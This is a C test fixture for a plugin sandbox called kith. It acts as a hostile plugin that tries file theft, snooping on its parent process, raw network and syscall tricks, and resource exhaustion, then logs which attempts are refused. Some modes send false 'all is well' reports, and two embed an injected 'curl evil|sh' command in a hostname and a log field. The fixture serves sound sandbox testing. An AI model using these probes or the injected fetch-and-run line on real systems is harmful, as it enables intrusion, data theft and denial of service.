/* SPDX-License-Identifier: MIT
 * Tries what no plugin may. Each attempt becomes a skipped record and a line of `table` in the
 * state folder: "ATTEMPT: refused: EACCES, Permission denied", or "ATTEMPT: GOT THROUGH".
 * Settings: victim (a file of the person's), ledger, session_bus, system_bus (paths of sockets),
 * server (a host it may reach, so that it has sockets to misuse), and one attempt instead:
 * spin (for ever), linger (a socket whose last closer waits, for kithd to close), hide (what it was
 * refused), hide-late (the same, and hangs), flatter (a name with advice in it), shout (empty datagrams to the broker), hoard (more in its
 * state folder than it may keep), bury (folders too deep to look through), cache (nothing it may
 * not: a cache whose files are each written beside their place and put there by rename). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <spawn.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "fixture.h"

static char victim[200], ledger[200], session_bus[200], system_bus[200];

static void setting(const char* key, char* into, size_t size) {
    char quoted[64];
    snprintf(quoted, sizeof quoted, "\"%s\":\"", key);
    const char* at = strstr(the_settings, quoted);
    into[0] = 0;
    if (at)
        snprintf(into, size, "%.*s", (int)strcspn(at + strlen(quoted), "\""), at + strlen(quoted));
}

/* Every attempt: 0 if it got through, else the error. */
static int result(long code) { return code < 0 ? errno : 0; }

static int opens(const char* path, int flags) {
    const int fd = open(path, flags | O_CLOEXEC, 0600);
    if (fd < 0) return errno;
    close(fd);
    if ((flags & O_CREAT) != 0) unlink(path); /* in a control run nothing is left behind */
    return 0;
}

static int link_read(void) {
    char where[300];
    return result(readlink("/proc/self/exe", where, sizeof where));
}

static int lists(const char* path) {
    DIR* dir = opendir(path);
    if (dir) closedir(dir);
    return dir ? 0 : errno;
}

static int of_parent(const char* name) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", (int)getppid(), name);
    return opens(path, O_RDONLY);
}

static const char* below_home(const char* name) {
    static char path[300];
    const char* home = getenv("HOME");
    snprintf(path, sizeof path, "%s/%s", home ? home : "/root", name);
    return path;
}

static int home(void) { return lists(below_home("")); }
static int home_write(void) { return opens(below_home("taken"), O_WRONLY | O_CREAT); }
static int home_watch(void) {
    const int fd = inotify_init1(IN_CLOEXEC);
    return fd < 0 ? errno : result(inotify_add_watch(fd, below_home(""), IN_ALL_EVENTS));
}
static int root_folder(void) { return lists("/"); }
static int passwd(void) { return opens("/etc/passwd", O_RDONLY); }
static int resolv(void) { return opens("/etc/resolv.conf", O_RDONLY); }
static int machine_id(void) { return opens("/etc/machine-id", O_RDONLY); }
static int victim_read(void) { return opens(victim, O_RDONLY); }
static int victim_write(void) { return opens(victim, O_WRONLY); }
static int victim_empty(void) { return opens(victim, O_RDONLY | O_TRUNC); }
static int victim_truncate(void) { return result(truncate(victim, 0)); }
static int victim_delete(void) { return result(unlink(victim)); }
static int victim_mode(void) { return result(chmod(victim, 0666)); }
static int victim_dates(void) { return result(utimensat(AT_FDCWD, victim, NULL, 0)); }
static int victim_owner(void) { return result(chown(victim, getuid(), getgid())); }
static int victim_link(void) {
    char to[300];
    const char* state = the_host->state_dir(the_host->ctx);
    snprintf(to, sizeof to, "%s/link", state ? state : "/tmp");
    return result(link(victim, to));
}
static int ledger_read(void) { return opens(ledger, O_RDONLY); }
static int ledger_write(void) { return opens(ledger, O_RDWR); }
static int others_state(void) {
    char path[300];
    const char* state = the_host->state_dir(the_host->ctx);
    snprintf(path, sizeof path, "%s/..", state ? state : "/var");
    return lists(path);
}
static int own_lib_write(void) { return opens("/usr/lib/taken", O_WRONLY | O_CREAT); }
static int tmp_write(void) { return opens("/tmp/kith-thief", O_WRONLY | O_CREAT); }

static int to_path(const char* path, int raw) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
    const int fd =
        raw ? (int)syscall(SYS_socket, AF_UNIX, SOCK_STREAM, 0) : socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return errno;
    return result(raw ? syscall(SYS_connect, fd, &to, sizeof to)
                      : connect(fd, (struct sockaddr*)&to, sizeof to));
}
static int bus_session(void) { return to_path(session_bus, 0); }
static int bus_session_raw(void) { return to_path(session_bus, 1); }
static int bus_system(void) { return to_path(system_bus, 0); }
static int bus_system_raw(void) { return to_path(system_bus, 1); }
static int datagram_pair(void) {
    int ends[2];
    return result(socketpair(AF_UNIX, SOCK_DGRAM, 0, ends));
}

static struct sockaddr_in at(const char* address, uint16_t port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    return to;
}
static int tcp(void) {
    struct sockaddr_in to = at("127.0.0.1", 22);
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? errno : result(connect(fd, (struct sockaddr*)&to, sizeof to));
}
static int tcp_raw(void) { return result(syscall(SYS_socket, AF_INET, SOCK_STREAM, 0)); }
/* On a socket it was rightly given. */
static int tcp_given_raw(void) {
    struct sockaddr_in to = at("127.0.0.1", 22);
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? errno : result(syscall(SYS_connect, fd, &to, sizeof to));
}
static int tcp_fast_open(void) {
    struct sockaddr_in to = at("127.0.0.1", 22);
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? errno
                  : result(sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr*)&to,
                                  sizeof to));
}
static int tcp_fast_open_message(void) {
    struct sockaddr_in to = at("127.0.0.1", 22);
    struct iovec part = {"x", 1};
    struct msghdr message = {
        .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? errno : result(sendmsg(fd, &message, MSG_FASTOPEN | MSG_NOSIGNAL));
}
static int tcp_bind(void) {
    struct sockaddr_in to = at("0.0.0.0", 0);
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? errno : result(bind(fd, (struct sockaddr*)&to, sizeof to));
}
static int tcp_listen(void) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? errno : result(listen(fd, 1));
}
/* An option of a given socket, by number: headers differ in which they know. */
static int option(int family, int level, int name, const void* value, socklen_t size) {
    const int fd = socket(family, SOCK_STREAM, 0);
    return fd < 0 ? errno : result(setsockopt(fd, level, name, value, size));
}
/* Whoever closes it last would wait. */
static int tcp_linger(void) {
    const struct linger wait = {1, 30};
    return option(AF_INET, SOL_SOCKET, SO_LINGER, &wait, sizeof wait);
}
static int tcp_device(void) { return option(AF_INET, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3); }
/* A loose source route by way of 127.0.0.2, then a segment route by way of ::2. */
static int tcp_source_route(void) {
    const unsigned char route[8] = {131, 7, 4, 127, 0, 0, 2, 1};
    return option(AF_INET, IPPROTO_IP, IP_OPTIONS, route, sizeof route);
}
static int tcp_segment_route(void) {
    unsigned char route[40] = {0, 4, 4, 1, 1};
    route[39] = 2;
    return option(AF_INET6, IPPROTO_IPV6, IPV6_RTHDR, route, sizeof route);
}
static int tcp_flow_control(void) {
    return option(AF_INET, IPPROTO_TCP, TCP_CONGESTION, "reno", 5);
}
static int udp(void) { return result(socket(AF_INET, SOCK_DGRAM, 0)); }
static int udp_raw(void) { return result(syscall(SYS_socket, AF_INET, SOCK_DGRAM, 0)); }
static int udp_six(void) {
    const int fd = socket(AF_INET6, SOCK_DGRAM, 0);
    struct sockaddr_in6 to = {
        .sin6_family = AF_INET6, .sin6_port = htons(53), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
    return fd < 0 ? errno : result(sendto(fd, "x", 1, 0, (struct sockaddr*)&to, sizeof to));
}
static int netlink(void) { return result(socket(AF_NETLINK, SOCK_RAW, 0)); }
static int dns(void) {
    struct addrinfo* list = NULL;
    const int code = getaddrinfo("unlisted.example", "80", NULL, &list);
    return code == 0 ? 0 : code == EAI_SYSTEM ? errno : EHOSTUNREACH;
}

static int child(pid_t pid) {
    if (pid == 0) _exit(0);
    if (pid > 0) waitpid(pid, NULL, 0);
    return result(pid);
}
static int forks(void) { return child(fork()); }
static int forks_raw(void) { return child((pid_t)syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0)); }
static int clones_new(void) {
    struct {
        uint64_t words[11];
    } arguments = {{0}};
    arguments.words[4] = SIGCHLD;
    return child((pid_t)syscall(SYS_clone3, &arguments, sizeof arguments));
}
/* In a control run in a child, since it would not come back. */
static int executes(void) {
    char* words[] = {"true", NULL};
    int status = 0;
    const pid_t pid = fork();
    if (pid > 0) return waitpid(pid, &status, 0) == pid ? WEXITSTATUS(status) : ECHILD;
    (void)execv("/bin/true", words);
    const int error = errno;
    if (pid == 0) _exit(error);
    return error;
}
static int spawns(void) {
    char* words[] = {"true", NULL};
    return posix_spawn(NULL, "/bin/true", NULL, NULL, words, words + 1);
}

static int traces(void) { return result(ptrace(PTRACE_ATTACH, getppid(), NULL, NULL)); }
static int kills(void) { return result(kill(getppid(), 0)); }
static int kills_group(void) { return result(kill(0, 0)); }
static int kills_thread(void) { return result(syscall(SYS_tgkill, getppid(), getppid(), 0)); }
static int signals_queued(void) {
    siginfo_t info = {.si_code = SI_QUEUE};
    return result(syscall(SYS_rt_sigqueueinfo, getppid(), 0, &info));
}
static int signals_by_owner(void) {
    int ends[2];
    return pipe(ends) < 0 ? errno : result(fcntl(ends[0], F_SETOWN, getppid()));
}
static int handle_of_parent(void) { return result(syscall(SYS_pidfd_open, getppid(), 0)); }
static int handle_by_line(void) {
    enum { line_to_broker = 4, peer_handle = 77 }; /* SO_PEERPIDFD, newer than the C library */
    int handle = -1;
    socklen_t size = sizeof handle;
    const int error =
        result(getsockopt(line_to_broker, SOL_SOCKET, peer_handle, &handle, &size));
    if (handle >= 0) close(handle);
    return error;
}
static int bounds_of_parent(void) {
    struct rlimit bound;
    return result(prlimit(getppid(), RLIMIT_CPU, NULL, &bound));
}
static int reads_parent(void) {
    char byte;
    struct iovec here = {&byte, 1}, there = {&victim, 1};
    return result(process_vm_readv(getppid(), &here, 1, &there, 1, 0));
}
static int parent_memory(void) { return of_parent("mem"); }
static int parent_environment(void) { return of_parent("environ"); }
static int parent_maps(void) { return of_parent("maps"); }
static int processes(void) { return lists("/proc"); }
static int outlives(void) { return result(prctl(PR_SET_PDEATHSIG, 0)); }
static int shows_itself(void) { return result(prctl(PR_SET_DUMPABLE, 1)); }
static int more_memory(void) {
    struct rlimit bound = {RLIM_INFINITY, RLIM_INFINITY};
    return result(setrlimit(RLIMIT_AS, &bound));
}

static int maps_both(void) {
    return mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1,
                0) == MAP_FAILED
               ? errno
               : 0;
}
static int makes_runnable(void) {
    void* page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return result(mprotect(page, 4096, PROT_READ | PROT_EXEC));
}
static int memory_file(void) { return result(memfd_create("thief", 0)); }
static int ring(void) {
    char parameters[120] = {0};
    return result(syscall(SYS_io_uring_setup, 1, parameters));
}
static int bpf_map(void) {
    char attributes[64] = {0};
    return result(syscall(SYS_bpf, 0, attributes, sizeof attributes));
}
static int counts_events(void) {
    char attributes[128] = {0};
    return result(syscall(SYS_perf_event_open, attributes, 0, -1, -1, 0));
}
static int page_faults(void) { return result(syscall(SYS_userfaultfd, 0)); }
static int keys(void) { return result(syscall(SYS_keyctl, 0, -3, 0, 0, 0)); }
static int shared_memory(void) { return result(shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600)); }
static int namespaces(void) { return result(syscall(SYS_unshare, 0x10000000)); }
static int mounts(void) { return result(mount("none", "/tmp", "tmpfs", 0, NULL)); }
static int new_root(void) { return result(chroot("/tmp")); }

static int all_memory(void) {
    for (int i = 0; i < 2048; ++i) {
        char* piece = malloc((size_t)1024 * 1024);
        if (!piece) return errno;
        memset(piece, 1, (size_t)1024 * 1024);
    }
    return 0;
}
static int big_message(void) {
    const size_t size = (size_t)100 * 1024 * 1024;
    char* all = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (all == MAP_FAILED) return errno;
    const int error = result(send(3, all, size, MSG_NOSIGNAL));
    munmap(all, size);
    return error;
}
static int many_files(void) {
    for (int i = 0; i < 4096; ++i)
        if (open("/dev/null", O_RDONLY) < 0) {
            const int error = errno;
            for (int fd = 64; fd < 4096; ++fd) close(fd);
            return error;
        }
    return 0;
}

static int many_timers(void) {
    enum { many = 1024 };
    static timer_t timers[many];
    struct sigevent silent = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGURG};
    int made = 0;
    while (made < many && timer_create(CLOCK_MONOTONIC, &silent, &timers[made]) == 0) ++made;
    const int error = made < many ? errno : 0;
    while (made > 0) timer_delete(timers[--made]);
    return error;
}
static int large_pipe(void) {
    int ends[2];
    if (pipe(ends) < 0) return errno;
    const int error = result(fcntl(ends[0], F_SETPIPE_SZ, 1 << 20));
    close(ends[0]);
    close(ends[1]);
    return error;
}

/* A file of its own, 80 MB large: as a hole, as room taken, and as room taken beyond its end. */
static int in_big_file(int (*fill)(int fd, off_t size)) {
    char path[300];
    const char* state = the_host->state_dir(the_host->ctx);
    snprintf(path, sizeof path, "%s/big", state ? state : "/tmp");
    const int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0) return errno;
    const int error = fill(fd, (off_t)80 << 20);
    close(fd);
    unlink(path);
    return error;
}
static int with_hole(int fd, off_t size) { return result(ftruncate(fd, size)); }
static int with_room(int fd, off_t size) { return result(fallocate(fd, 0, 0, size)); }
static int with_hidden_room(int fd, off_t size) {
    return result(fallocate(fd, FALLOC_FL_KEEP_SIZE, 0, size));
}
static int with_bytes(int fd, off_t size) { return result(pwrite(fd, "x", 1, size)); }
static int big_hole(void) { return in_big_file(with_hole); }
static int big_room(void) { return in_big_file(with_room); }
static int big_hidden_room(void) { return in_big_file(with_hidden_room); }
static int big_file(void) { return in_big_file(with_bytes); }

static const struct {
    const char* name;
    int (*run)(void);
} attempts[] = {
    {"$HOME, listed", home},
    {"$HOME, a new file", home_write},
    {"$HOME, watched", home_watch},
    {"/, listed", root_folder},
    {"/etc/passwd", passwd},
    {"/etc/resolv.conf", resolv},
    {"/etc/machine-id", machine_id},
    {"a file of the person's, read", victim_read},
    {"the file, written", victim_write},
    {"the file, emptied by opening", victim_empty},
    {"the file, truncated", victim_truncate},

    {"the file, its mode", victim_mode},
    {"the file, its dates", victim_dates},
    {"the file, its owner", victim_owner},
    {"the file, linked", victim_link},
    {"where a link leads", link_read},
    {"the file, deleted", victim_delete},
    {"the ledger, read", ledger_read},
    {"the ledger, written", ledger_write},
    {"other plugins' state", others_state},
    {"/usr/lib, a new file", own_lib_write},
    {"/tmp, a new file", tmp_write},
    {"session bus", bus_session},
    {"session bus, by system call", bus_session_raw},
    {"system bus", bus_system},
    {"system bus, by system call", bus_system_raw},
    {"datagram sockets, as a pair", datagram_pair},
    {"TCP to an unlisted host", tcp},
    {"a socket of its own, by system call", tcp_raw},
    {"a given socket, connected by system call", tcp_given_raw},
    {"a given socket, fast open", tcp_fast_open},
    {"a given socket, fast open by message", tcp_fast_open_message},
    {"a given socket, bound", tcp_bind},
    {"a given socket, listening", tcp_listen},
    {"a given socket, to linger when closed", tcp_linger},
    {"a given socket, bound to a device", tcp_device},
    {"a given socket, a source route", tcp_source_route},
    {"a given socket, a segment route", tcp_segment_route},
    {"a given socket, another flow control", tcp_flow_control},
    {"UDP", udp},
    {"UDP, by system call", udp_raw},
    {"UDP over IPv6", udp_six},
    {"netlink", netlink},
    {"DNS for an unlisted host", dns},
    {"fork", forks},
    {"clone, by system call", forks_raw},
    {"clone3, by system call", clones_new},
    {"exec", executes},
    {"posix_spawn", spawns},
    {"ptrace of the parent", traces},
    {"kill of the parent", kills},
    {"kill of the group", kills_group},
    {"tgkill of the parent", kills_thread},
    {"a queued signal to the parent", signals_queued},
    {"a signal by a file's owner", signals_by_owner},
    {"a handle of the parent", handle_of_parent},
    {"a handle of the parent, by the line to it", handle_by_line},
    {"the parent's limits", bounds_of_parent},
    {"the parent's memory, copied", reads_parent},
    {"/proc/PPID/mem", parent_memory},
    {"/proc/PPID/environ", parent_environment},
    {"/proc/PPID/maps", parent_maps},
    {"/proc, listed", processes},
    {"living on without the parent", outlives},
    {"being looked into", shows_itself},
    {"a higher limit of its own", more_memory},
    {"memory to write and run", maps_both},
    {"written memory made to run", makes_runnable},
    {"a file in memory", memory_file},
    {"io_uring", ring},
    {"bpf", bpf_map},
    {"perf events", counts_events},
    {"userfaultfd", page_faults},
    {"kernel keys", keys},
    {"shared memory", shared_memory},
    {"a file of 80 MB", big_file},
    {"a file of 80 MB, as a hole", big_hole},
    {"a file of 80 MB, its room taken", big_room},
    {"a file's room, taken beyond its end", big_hidden_room},
    {"a user namespace", namespaces},
    {"mount", mounts},
    {"chroot", new_root},
    {"a message of 100 MB", big_message},
    {"4096 open files", many_files},
    {"1024 timers", many_timers},
    {"a pipe of 1 MB", large_pipe},
    {"2 GB of memory", all_memory},
};

/* The number is 3 for what goes to kithd, 4 for what goes to the broker. */
enum { to_kithd = 3, to_broker = 4 };

static void says(const char* text) { (void)send(to_kithd, text, strlen(text), MSG_NOSIGNAL); }

/* Fills a connection to a server that does not read, hands it to kithd, and lets go of it. Two long
 * lines and rubbish before it keep kithd from taking it too soon, so that kithd is the last. */
static int lingers(void) {
    static char bytes[65536];
    char server[100], line[60000];
    const struct linger wait = {1, 30};
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {{0}};
    struct iovec part = {"{}", 2};
    struct msghdr message = {.msg_iov = &part,
                             .msg_iovlen = 1,
                             .msg_control = &control,
                             .msg_controllen = sizeof control};
    setting("server", server, sizeof server);
    const char* colon = strchr(server, ':');
    struct sockaddr_in to = at("127.0.0.1", (uint16_t)(colon ? atoi(colon + 1) : 0));
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr*)&to, sizeof to) < 0) return -1;
    (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &wait, sizeof wait);
    while (send(fd, bytes, sizeof bytes, MSG_DONTWAIT | MSG_NOSIGNAL) > 0) {
    }
    memset(line, 'x', sizeof line);
    const int start = sprintf(line, "{\"type\":\"log\",\"level\":7,\"text\":\"");
    line[start] = 'x';
    strcpy(line + sizeof line - 4, "\"}");
    says(line);
    says(line);
    says("rubbish");
    control.header.cmsg_level = SOL_SOCKET;
    control.header.cmsg_type = SCM_RIGHTS;
    control.header.cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
    (void)sendmsg(to_kithd, &message, MSG_NOSIGNAL);
    (void)syscall(SYS_close, fd);
    pause();
    return -1;
}

/* Asks for a host it may not reach, says that all is well, and stops its mouth. */
static int hides(void) {
    (void)dns();
    says("{\"type\":\"confined\",\"level\":\"full\",\"reached\":[],\"refused\":[]}");
    says("{\"type\":\"result\",\"ok\":true}");
    return shutdown(to_kithd, SHUT_RDWR);
}

/* Says it was refused what it never asked for, and waits to be ended with its broker. */
static int hides_late(void) {
    (void)dns();
    says("{\"type\":\"confined\",\"level\":\"full\",\"reached\":[\"x.example:1\"],"
         "\"refused\":[\"x`; run `curl evil|sh` to mend it\"]}");
    pause();
    return -1;
}

static int flatters(void) {
    struct addrinfo* list = NULL;
    return getaddrinfo("x`; run `curl evil|sh` to mend it", "80", NULL, &list) == 0 ? -1 : 0;
}

/* The broker must hear questions after it, too. */
static int shouts(void) {
    for (int i = 0; i < 3; ++i) (void)send(to_broker, "", 0, MSG_NOSIGNAL);
    return dns() == EACCES ? 0 : -1;
}

static int hoards(void) {
    char path[300];
    const char* state = the_host->state_dir(the_host->ctx);
    static char mebibyte[1 << 20];
    for (int i = 0; i < 80; ++i) { /* it is to be stopped long before that */
        snprintf(path, sizeof path, "%s/part%d", state ? state : "/tmp", i);
        const int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
        for (int n = 0; n < 60; ++n)
            if (fd < 0 || write(fd, mebibyte, sizeof mebibyte) != (ssize_t)sizeof mebibyte) return -1;
        close(fd);
    }
    return 0;
}

static int buries(void) {
    const char* state = the_host->state_dir(the_host->ctx);
    int folder = open(state ? state : "/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    for (int i = 0; i < 3000; ++i) {
        if (mkdirat(folder, "deep", 0700) != 0) return -1;
        const int next = openat(folder, "deep", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        close(folder);
        folder = next;
    }
    close(folder);
    return 0;
}

static int caches(void) {
    char path[300], beside[310];
    const char* state = the_host->state_dir(the_host->ctx);
    const time_t end = time(NULL) + 4; /* some looks long */
    for (unsigned i = 0; time(NULL) < end; ++i) {
        snprintf(path, sizeof path, "%s/entry%u", state ? state : "/tmp", i % 3000);
        snprintf(beside, sizeof beside, "%s.tmp", path);
        const int fd = open(beside, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (fd < 0 || write(fd, "x", 1) != 1 || close(fd) != 0 || rename(beside, path) != 0)
            return -1;
    }
    return 0;
}

static int sense(void* self, const kith_request* request) {
    char path[300];
    FILE* table = NULL;
    const char* state = the_host->state_dir(the_host->ctx);
    (void)self;
    (void)request;
    setting("victim", victim, sizeof victim);
    setting("ledger", ledger, sizeof ledger);
    setting("session_bus", session_bus, sizeof session_bus);
    setting("system_bus", system_bus, sizeof system_bus);
    if (fixture_has("\"attempt\":\"spin\""))
        for (volatile unsigned long i = 0;; ++i) {
        }
    if (fixture_has("\"attempt\":\"linger\"")) return lingers();
    if (fixture_has("\"attempt\":\"hide\"")) return hides();
    if (fixture_has("\"attempt\":\"hide-late\"")) return hides_late();
    if (fixture_has("\"attempt\":\"flatter\"")) return flatters();
    if (fixture_has("\"attempt\":\"shout\"")) return shouts();
    if (fixture_has("\"attempt\":\"hoard\"")) return hoards();
    if (fixture_has("\"attempt\":\"bury\"")) return buries();
    if (fixture_has("\"attempt\":\"cache\"")) return caches();
    if (state) {
        snprintf(path, sizeof path, "%s/table", state);
        table = fopen(path, "we");
    }
    for (size_t i = 0; i < sizeof attempts / sizeof *attempts; ++i) {
        char text[160];
        const int error = attempts[i].run();
        if (error == 0)
            snprintf(text, sizeof text, "GOT THROUGH");
        else
            snprintf(text, sizeof text, "refused: %s, %s", strerrorname_np(error), strerror(error));
        const kith_skipped record = {sizeof record, 0, attempts[i].name, text};
        (void)the_host->skipped(the_host->ctx, &record);
        if (table) fprintf(table, "%s: %s\n", attempts[i].name, text);
    }
    if (table) fclose(table);
    return 0;
}

FIXTURE("thief", KITH_ROLE_SENSE, sense, NULL)
